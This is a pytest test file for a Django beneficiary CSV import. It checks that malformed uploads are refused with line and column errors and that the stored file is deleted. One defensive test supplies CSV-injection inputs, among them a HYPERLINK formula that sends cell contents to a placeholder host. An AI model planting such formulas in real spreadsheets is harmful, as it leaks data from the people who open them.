"""A beneficiary file built to break the import: refused with a reason, the job ends, the file goes."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from core.models import Job
from cvr import imports
from cvr.models import Beneficiary, BeneficiaryImport, Project

from ..ddr.test_import_bad_input import digits
from ..factories import ProjectFactory, region

pytestmark = pytest.mark.django_db

HEADER = "type;nom;sexe;tranche d'âge;village\n"
GOOD = "communauté;Awa;F;18-24;Ansongo\n"


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(media: Path) -> list[Path]:
    return [p for p in media.rglob("*") if p.is_file()]


@pytest.fixture
def project() -> Project:
    return ProjectFactory.create(code="RVC-GAO-9", region=region("GAO"))


def upload(client: Client, project: Project, text: str, eager_tasks: Any) -> BeneficiaryImport:
    with eager_tasks():
        response = client.post(
            reverse("cvr:beneficiary-import", args=[project.pk]),
            {"file": SimpleUploadedFile("b.csv", text.encode(), content_type="text/csv")},
        )
    assert response.status_code == 302, response.content.decode()[-2000:]
    return BeneficiaryImport.objects.get()


def assert_refused_and_file_deleted(record: BeneficiaryImport) -> None:
    assert record.status == BeneficiaryImport.Status.INVALID
    assert record.job.status == Job.Status.DONE  # never left "queued"
    assert not record.file and not stored_files(Path(settings.MEDIA_ROOT))
    assert not Beneficiary.objects.exists()


def test_a_cell_over_the_csv_field_limit_is_refused_not_left_queued(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    record = upload(
        commission_client, project, f"{HEADER}communauté;{'A' * 131_073};F;18-24;X\n", eager_tasks
    )
    assert_refused_and_file_deleted(record)
    assert "131" in record.message
    page = commission_client.get(reverse("cvr:import-detail", args=[record.pk])).content.decode()
    assert "131" in page


def test_a_file_with_bare_cr_line_endings_is_read(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    record = upload(commission_client, project, (HEADER + GOOD + GOOD).replace("\n", "\r"), eager_tasks)
    assert record.status == BeneficiaryImport.Status.DONE and Beneficiary.objects.count() == 2
    assert record.file and stored_files(Path(settings.MEDIA_ROOT))  # kept: where they came from


def test_a_name_longer_than_its_field_is_refused_not_cut(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    record = upload(
        commission_client, project, f"{HEADER}communauté;{'N' * 100_000};F;18-24;X\n", eager_tasks
    )
    assert_refused_and_file_deleted(record)
    [error] = record.errors
    assert (error["line"], error["column"]) == (2, "nom") and "100000" in error["reason"]


def test_a_nul_byte_is_refused_with_its_line(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    record = upload(commission_client, project, f"{HEADER}{GOOD}communauté;Awa\x00;F;18-24;X\n", eager_tasks)
    assert_refused_and_file_deleted(record)
    [error] = record.errors
    assert (error["line"], error["column"]) == (3, "nom") and "U+0000" in error["reason"]


def test_errors_are_capped_with_their_total_paged_and_downloadable(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    record = upload(commission_client, project, HEADER + "communauté;;F;18-24;X\n" * 5000, eager_tasks)
    assert_refused_and_file_deleted(record)
    assert len(record.errors) == 1000 and record.error_count == 5000
    page = commission_client.get(reverse("cvr:import-detail", args=[record.pk])).content.decode()
    assert page.count("<td>nom</td>") == 50 and "?page=2" in page
    counted = digits(page[page.index('data-testid="error-count"') :].split("</p>")[0])
    assert "5000" in counted and "1000" in counted
    report = commission_client.get(reverse("cvr:import-errors", args=[record.pk])).content.decode()
    assert len(report.splitlines()) == 1 + 1000 + 1 and "4000" in report.splitlines()[-1]


def test_an_oversized_file_is_refused_before_it_is_stored(
    commission_client: Client, project: Project, settings: Any
) -> None:
    settings.DDR_BENEFICIARY_IMPORT_MAX_BYTES = 1000
    response = commission_client.post(
        reverse("cvr:beneficiary-import", args=[project.pk]),
        {"file": SimpleUploadedFile("b.csv", (HEADER + GOOD * 100).encode(), content_type="text/csv")},
    )
    assert response.status_code == 200 and "0.001" in response.content.decode()
    assert not BeneficiaryImport.objects.exists()


def test_an_unexpected_failure_ends_the_job_failed_and_deletes_the_file(
    commission_client: Client, project: Project, eager_tasks: Any, monkeypatch: Any
) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("disk gone")

    monkeypatch.setattr(imports, "_check", broken)
    with pytest.raises(RuntimeError):
        upload(commission_client, project, HEADER + GOOD, eager_tasks)
    record = BeneficiaryImport.objects.get()
    assert record.status == BeneficiaryImport.Status.FAILED and record.message
    assert record.job.status == Job.Status.FAILED and record.job.finished_at
    assert not record.file and not stored_files(Path(settings.MEDIA_ROOT))


FULL_HEADER = "Type;Numéro d'enregistrement;Nom et prénom;Sexe;Tranche d'âge;Village;Jeune à risque\n"


def test_errors_name_the_files_own_headers_never_internal_codes(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    rows = (
        "inconnu;;Awa;F;18-24;Ansongo;non\n"  # unknown type
        "communauté;;;F;18-24;Ansongo;non\n"  # a community member without a name
        "communauté;;Awa;X;18-24;Ansongo;non\n"  # unknown sex
        "communauté;;Awa;F;12;Ansongo;non\n"  # unknown age band
        "ex-combattant;GAO-9999999-9;;;18-24;;\n"  # nobody registered under that number
    )
    record = upload(commission_client, project, FULL_HEADER + rows, eager_tasks)
    assert_refused_and_file_deleted(record)
    assert [(e["line"], e["column"]) for e in record.errors] == [
        (2, "Type"),
        (3, "Nom et prénom"),
        (4, "Sexe"),
        (5, "Tranche d'âge"),
        (6, "Numéro d'enregistrement"),
    ]
    page = commission_client.get(reverse("cvr:import-detail", args=[record.pk])).content.decode()
    assert "<td>Tranche d&#x27;âge</td>" in page and "Nom et prénom" in page
    for code in ("age_band", "registration_number", "family_name", ">kind<", ">type<", ">name<", ">sex<"):
        assert code not in page
    report = commission_client.get(reverse("cvr:import-errors", args=[record.pk])).content.decode()
    assert "Tranche d'âge" in report and "age_band" not in report


def test_a_column_the_file_lacks_is_named_by_the_header_it_should_have(
    commission_client: Client, project: Project, eager_tasks: Any
) -> None:
    record = upload(commission_client, project, "type;nom;sexe\ncommunauté;Awa;F\n", eager_tasks)
    [error] = record.errors
    assert (error["line"], error["column"]) == (2, "Tranche d'âge")


@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("http://x.example/?q="&A1,"Cliquez")', "@SUM(A1)"])
def test_a_formula_cell_is_one_error_named_by_the_files_header(
    commission_client: Client, project: Project, eager_tasks: Any, formula: str
) -> None:
    """CSV injection: a formula in any column is refused once, under the column's own header, and
    nothing else is said of that cell (no "unknown age band", no "no registered person")."""
    cell = '"' + formula.replace('"', '""') + '"'
    good = ["communauté", "", "Awa", "F", "18-24", "Ansongo", "oui"]
    rows = []
    for i in range(len(good)):
        cells = list(good)
        if i == 1:  # a registration number is read for an ex-combatant
            cells = ["ex-combattant", "", "", "", "18-24", "", ""]
        cells[i] = cell
        rows.append(";".join(cells) + "\n")
    record = upload(commission_client, project, FULL_HEADER + "".join(rows), eager_tasks)
    assert_refused_and_file_deleted(record)
    headers = FULL_HEADER.strip().split(";")
    assert [(e["line"], e["column"]) for e in record.errors] == [(i + 2, h) for i, h in enumerate(headers)]
    assert record.error_count == len(headers)
    assert all("formule" in e["reason"] for e in record.errors), record.errors
